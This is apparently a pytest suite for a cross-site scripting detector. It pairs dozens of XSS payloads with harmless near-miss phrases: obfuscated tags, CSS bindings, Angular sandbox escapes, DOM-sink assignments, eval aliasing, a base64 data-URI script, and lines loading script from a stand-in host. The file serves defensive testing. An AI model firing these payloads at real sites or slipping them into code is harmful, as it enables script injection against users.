"""Script injection that libinjection leaves: tags spelled with spaces or a
namespace, attributes that run or load script, CSS bindings, a way out of a
JavaScript string, the end of an HTML comment, and US-ASCII read as seven
bits. Each payload has a near miss in ordinary words that must stay quiet."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from tests.runtime.payloads import payload_kinds


def _query(value: str) -> set[str]:
    return payload_kinds(query="v=" + quote(value))


@pytest.mark.parametrize(
    "payload",
    [
        "x<s v g onload",  # a tag with spaces between its letters
        "<i f r a m e src",
        "< a : svg",  # a namespaced tag with spaces
        "<:vmlframe href=x>",
        '"formaction=//a.example',
        "x' srcdoc=&lt;b&gt;",
        "width:1px;-moz-binding:url(//a.example/b.xml#c)",
        "a{behavior: url(x.htc)}",
        '" in \\u006eame=1',  # out of a string into an assignment
        "' in top.x=1",
        "-->",
        "\\xbcsvg onload\\xbe",  # US-ASCII read as seven bits: 0xbc is <
    ],
)
def test_script_shapes_libinjection_leaves_are_xss(payload: str) -> None:
    assert "xss" in _query(payload)


@pytest.mark.parametrize(
    "text",
    [
        "a < b: c",
        "if a<b: return",
        "<3 items",
        "s v g",
        "< b i g deal",
        "formation=4-4-2",
        "behavior: calm",
        '"in stock"',
        "it is in=stock",
        "A --> B",
        "1/4 cup = \\xbc cup, \\xbe cup sugar",
        "2 x ¼ cup, ¾ cup sugar",
    ],
)
def test_ordinary_text_near_those_shapes_is_not_xss(text: str) -> None:
    assert "xss" not in _query(text)


def test_javascript_code_point_escapes_and_tagged_calls_are_xss() -> None:
    assert "xss" in _query("\\u{61}lert(1)")
    assert "xss" in _query("top.confirm`1`")
    assert "xss" not in _query("say `hello` to the prompt")


SCRIPT_SHAPES = [
    "x.innerHTML=location.hash",
    "el.outerHTML = name",
    "b.insertAdjacentHTML('beforeend', name)",
    "window.onerror=alert;throw 1",
    "{{constructor.constructor('alert(1)')()}}",
    "location.href='javascript:alert(1)'",
    'window.location="//203.0.113.9"',
    "x.parentNode.removeChild(x)",
    '{{[].pop.constructor("alert(1)")()}}',
    '{{$eval("x")}}',
    'Function("alert(1)")()',
    "[1].map(alert.call, alert)",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "'+onerror=alert+'",
]
NEAR_SCRIPT = [
    "innerHTML explained",
    "the constructor of a class",
    "location = London",
    "class constructor (basics)",
    "the window location",
    "function (maths)",
    "parent node",
]


@pytest.mark.parametrize(
    ("value", "is_xss"), [(v, True) for v in SCRIPT_SHAPES] + [(t, False) for t in NEAR_SCRIPT]
)
def test_dom_sinks_and_functions_made_from_strings_are_xss_prose_about_them_is_not(
    value: str, is_xss: bool
) -> None:
    assert ("xss" in payload_kinds(query="q=" + quote(value, safe=""))) is is_xss


def test_a_script_in_a_base64_data_uri_is_xss() -> None:
    inner = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>")
    value = '<object data="data:text/html;base64,' + inner.decode() + '"/>'
    assert "xss" in payload_kinds(query="q=" + quote(value, safe=""))
    assert (
        payload_kinds(query="img=" + quote("data:image/png;base64,iVBORw0KGgoAAAANSUhEUg")) == set()
    )


@pytest.mark.parametrize(
    "value",
    [
        '<LAYER SRC="http://203.0.113.9/s.html"></LAYER>',
        '<IMG SRC="mocha:[code]">',
        "<bgsound src=x>",
    ],
)
def test_legacy_script_tags_and_schemes_are_xss(value: str) -> None:
    assert "xss" in payload_kinds(query="q=" + quote(value, safe=""))


@pytest.mark.parametrize(
    "value",
    [
        '{{$on.constructor("alert(1)")()}}',
        "{{'a'.constructor.prototype.charAt=[].join}}",
        "[].sort.call(x, alert)",
        'document["cookie"]',
        '<br size="&{alert(1)}">',
    ],
)
def test_angular_expressions_reaching_code_and_array_methods_called_on_sinks_are_xss(
    value: str,
) -> None:
    assert "xss" in payload_kinds(query="q=" + quote(value, safe=""))
    assert "xss" not in payload_kinds(query="q=" + quote("{{ item.price }} and [] . map"))


@pytest.mark.parametrize(
    "value",
    [
        "a=eval;b=alert;a(b(1));//",
        "'};a=eval;b=alert;a(b(13));//",
        "_=eval,__=unescape,___=document.URL,_(__(___))",
        "A=alert;A(1)",
        "x=prompt ; x(document.domain)",
        "evil=/ev/.source+/al/.source",
        "top.__proto__._= alert",
        "document.__parent__._=alert",
        "with(document)getElementsByTagName('head')[0].appendChild(x)",
        "createElement('script').src='//x.test'",
        "(alert)(1)",
        "[1].find(alert)",
        "[document.domain].map(prompt)",
        "import('//x.test/m.js')",
    ],
)
def test_sinks_stored_glued_or_reached_by_prototype_are_xss(value: str) -> None:
    assert "xss" in _query(value)


@pytest.mark.parametrize(
    "value",
    [
        "priority=alert, status=open",
        "level=alert; notify(team)",
        "mode=eval; run(tests)",
        "see docs/tools/.sources",
        "the __proto__ property explained",
        "with (documents) in hand",
        "createElement('div')",
        "(alert) (see manual)",
        "list.find(alerts)",
        "[1].map(alert_level)",
        "import (and perhaps wait) from //abroad",
        "import('./local-module.js')",
    ],
)
def test_notes_near_hidden_sinks_are_not_xss(value: str) -> None:
    assert "xss" not in _query(value)
